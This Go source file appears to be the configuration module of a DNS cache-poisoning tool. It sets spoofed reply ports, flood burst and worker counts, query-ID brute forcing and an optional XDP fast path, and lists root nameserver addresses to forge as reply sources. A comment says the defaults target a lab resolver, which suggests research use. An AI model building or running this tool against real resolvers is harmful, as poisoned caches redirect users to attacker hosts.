package main

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"

	"gopkg.in/yaml.v3"
)

// Config carries the tuning knobs shared by the three modes. The
// per-run attack inputs (target, domain, nameservers) live in
// AttackParameters; everything here has a sane default.
type Config struct {
	// Spoofed packet settings
	TargetPort     int    `yaml:"target_port" json:"target_port"`
	SpoofedSrcPort int    `yaml:"spoofed_src_port" json:"spoofed_src_port"`
	AnswerAddr     string `yaml:"answer_addr" json:"answer_addr"`
	AnswerTTL      uint32 `yaml:"answer_ttl" json:"answer_ttl"`
	AuthorityTTL   uint32 `yaml:"authority_ttl" json:"authority_ttl"`

	// Flood settings
	BurstSize     int  `yaml:"burst_size" json:"burst_size"`
	FloodWorkers  int  `yaml:"flood_workers" json:"flood_workers"`
	BruteForceIDs bool `yaml:"brute_force_ids" json:"brute_force_ids"`

	// Query settings
	QueryTimeout time.Duration `yaml:"query_timeout" json:"query_timeout"`

	// XDP fast path (optional, attack mode only)
	NIC     string `yaml:"interface" json:"interface"`
	QueueID int    `yaml:"queue_id" json:"queue_id"`
	SrcMAC  string `yaml:"src_mac" json:"src_mac"`
	DstMAC  string `yaml:"dst_mac" json:"dst_mac"`

	// Display settings
	Verbose    bool `yaml:"verbose" json:"verbose"`
	TextOutput bool `yaml:"text" json:"text"`
}

// DefaultConfig returns the defaults used against the lab resolver
// setup: forged replies claim to come from port 53 and are aimed at the
// resolver's fixed query port.
func DefaultConfig() *Config {
	return &Config{
		TargetPort:     33333,
		SpoofedSrcPort: 53,
		AnswerAddr:     "127.0.0.1",
		AnswerTTL:      0, // don't let the resolver keep the throwaway A record
		AuthorityTTL:   240,
		BurstSize:      2048,
		FloodWorkers:   4,
		QueryTimeout:   10 * time.Second,
		QueueID:        0,
	}
}

// defaultSpoofedAddrs are the root server addresses, used as forged
// sources when the operator does not name the real nameservers for the
// target domain.
var defaultSpoofedAddrs = []net.IP{
	net.IPv4(198, 41, 0, 4),
	net.IPv4(192, 228, 79, 201),
	net.IPv4(192, 33, 4, 12),
	net.IPv4(199, 7, 91, 13),
	net.IPv4(192, 203, 230, 10),
	net.IPv4(192, 5, 5, 241),
	net.IPv4(192, 112, 36, 4),
	net.IPv4(198, 97, 190, 53),
	net.IPv4(192, 36, 148, 17),
	net.IPv4(192, 58, 128, 30),
	net.IPv4(193, 0, 14, 129),
	net.IPv4(199, 7, 83, 42),
	net.IPv4(202, 12, 27, 33),
}

// LoadConfigFile loads configuration from a YAML or JSON file on top of
// the defaults.
func LoadConfigFile(filename string) (*Config, error) {
	config := DefaultConfig()

	data, err := os.ReadFile(filename)
	if err != nil {
		return nil, fmt.Errorf("reading config file: %w", err)
	}

	switch strings.ToLower(filepath.Ext(filename)) {
	case ".json":
		err = json.Unmarshal(data, config)
	default:
		err = yaml.Unmarshal(data, config)
	}
	if err != nil {
		return nil, fmt.Errorf("parsing config file: %w", err)
	}
	return config, nil
}

// SaveConfigFile writes the current configuration to a file.
func (c *Config) SaveConfigFile(filename string) error {
	var data []byte
	var err error
	switch strings.ToLower(filepath.Ext(filename)) {
	case ".json":
		data, err = json.MarshalIndent(c, "", "  ")
	default:
		data, err = yaml.Marshal(c)
	}
	if err != nil {
		return fmt.Errorf("marshaling config: %w", err)
	}
	return os.WriteFile(filename, data, 0644)
}

// Validate checks the configuration before a run starts; anything caught
// here is a startup error, never reached from inside a cycle.
func (c *Config) Validate() error {
	if c.TargetPort <= 0 || c.TargetPort > 65535 {
		return fmt.Errorf("target port %d out of range", c.TargetPort)
	}
	if c.SpoofedSrcPort <= 0 || c.SpoofedSrcPort > 65535 {
		return fmt.Errorf("spoofed source port %d out of range", c.SpoofedSrcPort)
	}
	if c.BurstSize <= 0 {
		return fmt.Errorf("burst size must be positive")
	}
	if c.FloodWorkers <= 0 {
		return fmt.Errorf("flood workers must be positive")
	}
	if c.QueryTimeout <= 0 {
		return fmt.Errorf("query timeout must be positive")
	}
	if ip := net.ParseIP(c.AnswerAddr); ip == nil || ip.To4() == nil {
		return fmt.Errorf("%w: answer address %q is not an IPv4 address", ErrInvalidAddress, c.AnswerAddr)
	}
	return nil
}

// parseIPv4List parses a comma-separated list of IPv4 addresses, as
// given to -spoofed-addrs.
func parseIPv4List(s string) ([]net.IP, error) {
	if s == "" {
		return nil, nil
	}
	var ips []net.IP
	for _, part := range strings.Split(s, ",") {
		ip := net.ParseIP(strings.TrimSpace(part))
		if ip == nil || ip.To4() == nil {
			return nil, fmt.Errorf("%w: %q is not an IPv4 address", ErrInvalidAddress, part)
		}
		ips = append(ips, ip.To4())
	}
	return ips, nil
}
